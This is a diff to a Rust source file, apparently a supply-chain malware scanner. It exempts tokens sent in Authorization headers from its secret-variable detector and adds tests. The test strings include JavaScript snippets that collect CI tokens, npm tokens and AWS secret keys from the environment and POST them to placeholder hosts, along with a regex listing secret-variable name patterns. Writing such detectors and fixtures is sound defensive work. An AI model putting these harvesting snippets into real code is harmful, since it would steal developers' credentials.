@@ -76,10 +76,20 @@ fn secret_env_uses(text: &str) -> Vec<Src> {
     let re = crate::regex!(
         r#"\benv\.([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)\b|\benv\[\s*['"]([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)['"]\s*\]"#
     );
+    // A token written as the value of an `Authorization` header is the client's own key on its
+    // way to the service it is for (a release tool's GitHub call), not a harvest.
+    let auth = crate::regex!(r#"(?i)['"]?authorization['"]?\s*:\s*[^,}\n]{0,40}$"#);
     re.captures_iter(text)
         .take(64)
         .filter_map(|c| {
             let m = c.get(1).or(c.get(2))?;
+            let mut from = m.start().saturating_sub(80);
+            while !text.is_char_boundary(from) {
+                from -= 1;
+            }
+            if text.get(from..m.start()).is_some_and(|b| auth.is_match(b)) {
+                return None;
+            }
             Some(Src {
                 off: m.start() as u32,
                 kind: "secret environment variables",
@@ -691,6 +701,11 @@ mod tests {
         let env = "function ci() { const env = process.env; const got = {}; for (const k of Object.keys(env)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = env[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()";
         assert_eq!(severities(env), vec![crate::model::Severity::Critical]);
         // The same pattern over an object the caller passes is one weak source: high.
+        // Three token names, one of them the value of an Authorization header: two sent.
+        let release = "async function rel() { const t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN; write(t); await fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: '{}' }) }";
+        assert_eq!(severities(release), vec![]);
+        let harvest = "async function rel() { await fetch('https://c.example.net/r', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify([process.env.NPM_TOKEN, process.env.NODE_AUTH_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]) }) }";
+        assert_eq!(severities(harvest), vec![crate::model::Severity::Critical]);
         let obj = "function ci(o) { const got = {}; for (const k of Object.keys(o)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = o[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()";
         assert_eq!(severities(obj), vec![crate::model::Severity::High]);
     }
